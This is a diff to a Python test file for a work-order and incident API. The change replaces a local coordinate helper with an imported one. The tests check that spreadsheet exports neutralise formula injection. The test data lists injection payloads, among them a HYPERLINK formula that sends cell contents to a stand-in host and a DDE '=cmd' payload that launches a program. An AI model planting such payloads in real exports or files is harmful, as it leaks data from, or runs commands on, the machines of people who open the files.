@@ -22,7 +22,7 @@ from api.cli import main
 from api.db import session_scope
 from api.incidents.models import IncidentCase
 from geo.spreadsheet import FORMULA_PREFIXES
-from tests.api.attack_helpers import World, attack_world, ids_with_check
+from tests.api.attack_helpers import World, attack_world, grid_point, ids_with_check
 
 #: Values a spreadsheet would run as formulas, and one with a control character XML cannot hold.
 FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "=cmd|' /C calc'!A0"]
@@ -95,21 +95,13 @@ def test_register_export_neutralises_formulas_keeps_numbers_and_reads_back(world
 
 
 def _workorders(world: World, tmp: Path) -> Path:
-    lon, lat = _lonlat(world)
+    lon, lat = grid_point(world)
     rows = [{"工单编号": f"{p}{i}", "诉求内容": p + " 楼道堆物", "类别": "SJ-0201", "地址": "-1号楼",
              "坐标": f"{lon},{lat}", "受理时间": "2026-11-03 10:00", "时限": "24小时", "状态": ""}
             for i, p in enumerate(["=1+2", "-20261103", "+86", "@x", FORMULAS[0]])]
     path = tmp / "hostile-12345.csv"
     path.write_bytes(pd.DataFrame(rows).to_csv(index=False).encode("utf-8-sig"))
     return path
-
-
-def _lonlat(world: World) -> tuple[float, float]:
-    from api.grids.service import active_grids
-
-    with world.app.app_context(), session_scope() as s:
-        p = active_grids(s).set_index("key").loc[world.A, "geometry"].representative_point()
-    return float(p.x), float(p.y)
 
 
 def _cases(world: World) -> int:
